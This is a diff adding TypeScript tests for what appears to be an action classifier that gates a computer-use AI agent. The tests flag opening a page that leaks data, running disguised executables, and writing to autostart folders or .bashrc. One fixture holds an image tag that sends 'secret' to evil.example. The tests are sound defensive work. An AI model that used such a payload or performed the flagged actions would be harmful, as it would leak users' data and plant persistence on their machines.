@@ -11,7 +11,9 @@ import { leadsOut, namesOrigin, originOf } from './addresses.ts'
 import { pathsOf } from './command-paths.ts'
 import { coverageOf } from './coverage.ts'
 import { createGate } from './create-gate.ts'
+import { Places } from './places.ts'
 import { judge, type Policy } from './policy.ts'
+import { createSurroundings } from './surroundings.ts'
 import { readsForeign } from './taint.ts'
 import { actOf, aroundOf, controlOf, HOME, OWN, targetOf, windowOf } from './testing/acts.ts'
 
@@ -240,6 +242,61 @@ describe('a way out', () => {
     expect(readsForeign(command('cat notes.txt'))).toBe(true)
     expect(readsForeign(actOf('click_input', {}, targetOf(browser, null)))).toBe(true)
   })
+})
+
+test('a page that the run can have written asks before it is opened, as what it fetches is told', () => {
+  const folder = mkdtempSync(join(tmpdir(), 'pages-'))
+  const page = join(folder, 'page.html')
+  writeFileSync(page, '<img src="http://evil.example/?d=secret">')
+  writeFileSync(join(folder, 'notes.txt'), 'x')
+  const around = (since: number, tainted = true) =>
+    createSurroundings({ places: new Places({ homes: [folder], own: [] }), since, tainted: () => tainted })
+  const [before, after] = [Date.now() - 60_000, Date.now() + 60_000]
+  const opened = [
+    launch('chromium', [page]),
+    launch(`file://${page}`),
+    go(`file://${page}`),
+    actOf('click_input', { double: true }, targetOf(windowOf('thunar'), controlOf('list item', 'page.html'), { items: [page] })),
+  ]
+  for (const act of opened) expect(categories(act, around(before))).toContain('send')
+  expect(categories(launch('chromium', [page]), around(after))).toEqual([])
+  expect(categories(launch('chromium', [page]), around(before, false))).toEqual([])
+  expect(categories(launch('mousepad', [join(folder, 'notes.txt')]), around(before))).toEqual([])
+}) // prettier-ignore
+
+describe('a file manager', () => {
+  const folder = mkdtempSync(join(tmpdir(), 'files-'))
+  const places = new Places({ homes: [folder], own: [] })
+  const there = createSurroundings({ places })
+  const target = (role: 'list item' | 'menu item' | 'edit', name: string, more: Partial<TargetDescription>) =>
+    targetOf(windowOf('thunar', 'Downloads - Thunar'), controlOf(role, name), more)
+  writeFileSync(join(folder, 'summary'), '\u007fELF', { mode: 0o755 })
+  writeFileSync(join(folder, 'photo.jpg'), 'x', { mode: 0o755 })
+  writeFileSync(join(folder, 'r.desktop'), 'x')
+
+  test('runs a program whatever it is called, however it is opened', () => {
+    const item = (file: string, name = file) => target('list item', name, { items: [join(folder, file)] })
+    const cell = { ...item('summary'), control: controlOf('cell', 'summary') }
+    for (const it of [item('summary'), cell, item('r.desktop', 'report.pdf')]) {
+      expect(categories(actOf('click_input', { double: true }, it), there)).toContain('run_command')
+      expect(categories(actOf('keyboard_input', { keys: 'Enter' }, { ...it, kind: 'focus' }), there)).toContain('run_command')
+      expect(categories(actOf('click_input', {}, it), there)).toEqual([])
+    }
+    const open = target('menu item', 'Open', { items: [join(folder, 'summary')] })
+    expect(categories(actOf('choose_menu', { path: ['File', 'Open'] }, open), there)).toContain('run_command')
+    expect(categories(actOf('click_input', { double: true }, item('photo.jpg')), there)).toEqual([])
+  }) // prettier-ignore
+
+  test('puts nothing where programs are started from, by keys, menu or another name', () => {
+    const folders = [join(folder, '.config/autostart')]
+    const paste = actOf('keyboard_input', { keys: 'Ctrl+V' }, { ...target('list item', 'a', { folders }), kind: 'focus' })
+    expect(categories(paste, there)).toContain('start_programs')
+    const menu = actOf('choose_menu', { path: ['Edit', 'Paste'] }, target('menu item', 'Paste', { folders }))
+    expect(categories(menu, there)).toContain('start_programs')
+    expect(categories({ ...menu, target: { ...menu.target, folders: [folder] } }, there)).toEqual([])
+    const named = actOf('keyboard_input', { keys: 'Enter' }, { ...target('edit', 'Name', { writes: join(folder, '.bashrc') }), kind: 'focus' })
+    expect(categories(named, there)).toContain('start_programs')
+  }) // prettier-ignore
 })
 
 describe('a text in pieces', () => {
